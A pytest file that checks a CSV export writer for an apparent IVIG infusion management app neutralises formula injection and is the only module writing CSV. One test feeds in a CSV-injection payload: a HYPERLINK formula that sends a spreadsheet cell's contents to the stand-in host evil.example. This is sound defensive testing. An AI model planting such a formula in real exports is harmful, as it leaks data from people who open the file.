"""Every CSV export writes through one writer that neutralises formulas (ivig/csv_export.py,
OWASP CSV injection): a cell beginning with = + - @, a tab or a carriage return reaches the
spreadsheet as text."""

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from ivig.csv_export import FORMULA_STARTS, SafeCsvWriter, safe_cell

ROOT = Path(__file__).resolve().parent.parent
APPS = ("ivig", "formulary", "orders", "authorizations", "infusions", "reminders", "reports")


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_beginning_like_a_formula_is_text(start):
    stream = io.StringIO()
    SafeCsvWriter(stream).writerow([f'{start}HYPERLINK("http://evil.example/?"&A1,"x")', "ok"])
    cell, plain = next(csv.reader(io.StringIO(stream.getvalue())))
    assert cell.startswith("'" + start)
    assert plain == "ok"


def test_numbers_and_plain_text_are_written_as_they_are():
    assert safe_cell(Decimal("-2.5")) == Decimal("-2.5")
    assert safe_cell(-3) == -3
    assert safe_cell("Privigen") == "Privigen"
    assert safe_cell(None) == ""


def test_no_module_writes_csv_but_the_one_writer():
    """``csv.writer`` appears only in ivig/csv_export.py."""
    offenders = []
    for app in APPS:
        for path in (ROOT / app).rglob("*.py"):
            if path.name == "csv_export.py" or "migrations" in path.parts:
                continue
            text = path.read_text()
            if "csv.writer(" in text or "csv.DictWriter(" in text:
                offenders.append(str(path.relative_to(ROOT)))
    assert not offenders
